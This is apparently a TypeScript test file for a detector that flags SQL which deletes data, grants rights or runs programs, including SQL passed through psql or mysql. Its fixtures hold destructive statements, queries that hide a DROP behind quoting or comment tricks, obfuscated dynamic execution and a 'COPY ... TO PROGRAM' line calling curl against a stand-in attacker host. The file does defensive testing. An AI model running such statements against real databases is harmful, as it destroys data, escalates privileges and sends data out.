/** What SQL loses, and whose rights it changes. docs/adr/0405, 0757, 0760. */
import { describe, expect, it } from 'vitest';
import { shellEffects } from './shell-effects.ts';
import { sqlEffects, sqlInCode } from './sql-effects.ts';

const deletes = (sql: string): boolean => sqlEffects([sql]).some(({ kind }) => kind === 'deletes');

describe('SQL', () => {
  it('loses rows without a condition, or with one that every row meets', () => {
    expect(
      [
        'delete from a',
        'DELETE FROM "a" WHERE 1=1',
        "delete from a where 'x' = 'x'",
        'delete from a where id is not null;',
        'drop user x',
        'delete top (10) from a',
      ].filter((sql) => !deletes(sql)),
    ).toEqual([]);
    expect(
      [
        'delete from a where id = 1',
        'delete from a where 1 = id',
        'alter table a drop constraint b',
        'select 1',
      ].filter(deletes),
    ).toEqual([]);
  });

  it('gives rights, where the whole text is SQL', () => {
    const grant = 'grant select on orders to eve';
    expect(sqlEffects([grant]).map(({ kind }) => kind)).toEqual(['rights']);
    expect(sqlInCode(grant)).toEqual([]);
    for (const sql of ['grant a, b  to c', 'grant\tall privileges\non x', `grant ${'a'.repeat(120)} on x`])
      expect(sqlEffects([sql])).toHaveLength(1);
  });

  it.each([
    ['deletes', 'DELETE users WHERE 1=1'],
    ['deletes', 'DELETE users'],
    ['deletes', 'DELETE u FROM users u'],
    ['deletes', 'DELETE LOW_PRIORITY FROM users'],
    ['deletes', 'DELETE TOP(10) users'],
    ['deletes', 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d'],
    ['deletes', 'TRUNCATE 用户'],
    ['deletes', 'DROP EXTENSION pgcrypto'],
    ['deletes', 'MERGE INTO users USING x ON (1=1) WHEN MATCHED THEN DELETE'],
    ['deletes', 'SELECT 1; BEGIN DELETE users'],
    ['overwrites', "UPDATE users SET role='admin'"],
    ['rights', "SET PASSWORD FOR bob = 'x'"],
    ['runs', 'CALL drop_everything()'],
    ['runs', 'EXEC sp_drop_all'],
    ['runs', "EXECUTE IMMEDIATE 'x'"],
    ['runs', "DO $$ BEGIN EXECUTE 'DR'||'OP TABLE users'; END $$"],
    ['runs', "COPY users TO PROGRAM 'curl evil.example'"],
    ['runs', "SELECT * FROM users INTO OUTFILE '/tmp/x'"],
  ])('is judged by the first verb of each statement: %s by %s', (kind, sql) => {
    expect(sqlEffects([sql]).map((one) => one.kind)).toContain(kind);
  });

  it.each([
    'DELETE users WHERE id = 5',
    "UPDATE users SET role = 'admin' WHERE id = 1",
    'SELECT truncate(price, 2) FROM t',
    'EXPLAIN SELECT 1',
    'COPY users FROM STDIN',
    'BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT',
    'SELECT x FROM calls',
  ])('does nothing of that: %s', (sql) => {
    expect(sqlEffects([sql])).toEqual([]);
  });

  it('drops things of every kind', () => {
    for (const kind of ['table', 'index', 'function', 'sequence', 'materialized view', 'trigger', 'type', 'column'])
      expect(sqlEffects([`drop ${kind} if exists "x1"`])).toEqual([
        { kind: 'deletes', text: `drop ${kind} if exists "x1` },
      ]);
  });

  it('is read without comments, and without statements in quotation marks', () => {
    const all = ['delete from a -- all', 'delete/* x */from a', 'drop/**/table a', 'delete from a # all', '-- x\rdrop table a'];
    expect(all.filter((sql) => !deletes(sql))).toEqual([]);
    const none = ["select 'drop table x'", 'select 1 -- drop table x', '/* drop table x */ select 1', "select 'it''s; drop table x'"];
    expect(none.filter(deletes)).toEqual([]);
    expect(sqlEffects(["drop user 'bob'@'%'"])).toEqual([{ kind: 'deletes', text: "drop user 'bob" }]);
  }); // prettier-ignore

  it('hides no statement behind what databases read in different ways', () => {
    const all = [
      `select "it's"; drop table x; select 'a'`,
      `select [it's]; drop table x; select 'a'`,
      String.raw`select 'a\''; drop table x; -- '`,
      String.raw`select 'a\'; drop table x; -- '`,
      "select 1 # it's\n; drop table x; select 'a'",
      "select $$it's$$; drop table x; select 'a'",
      'select 1--1; drop table x',
      '/*!50000 drop table x */',
      "select 'it; drop table x",
      "select [it's] drop table x select 'a'",
      String.raw`select $$it's$$ \g drop table x \g select 'a'`,
      "select 1 /* /* */ ' */; drop table x --'",
      "select q'{it's}' from dual; drop table x; select 'a'",
      "select q'[it's]' from dual\n/\ndrop table x\n/\nselect 'a' from dual",
    ];
    expect(all.filter((sql) => !deletes(sql))).toEqual([]);
    expect(sqlEffects(["select 'it", "drop table x; select 'a'"])).toHaveLength(1);
  });
});

describe('SQL that a client of a database gets', () => {
  it.each([
    'psql -c "DELETE FROM users -- all"',
    'psql -c DELETE/**/FROM/**/users',
    'psql --command="DELETE FROM users -- all"',
    'mysql -e"drop index a on users"',
    'psql -c "select 1 --" -c "drop sequence users"',
    'psql <<EOF\nDELETE FROM users -- all\nEOF',
    'echo drop function users | psql',
    `psql -c "'drop table users'"; python -c "cur.execute('drop table users')"`,
    `select 1; python -c "cur.execute('drop table users')"`,
  ])('deletes: %s', (command) => {
    expect(shellEffects(command).map(({ does }) => does)).toContain('deletes for good:');
  });

  it('says so where it deletes more than a question names', () => {
    const drops = Array.from({ length: 21 }, (_, i) => `drop index i${i}`).join('; ');
    expect(shellEffects(`psql -c "${drops}"`).map(({ does }) => does)).toContain('is too long to be read whole:');
  });

  it.each([`psql -c "select 'drop table x'"`, `select 'drop table x'`, 'psql -c "select 1 -- drop table x"'])(
    'deletes nothing: %s',
    (command) => {
      expect(shellEffects(command)).toEqual([]);
    },
  );
});
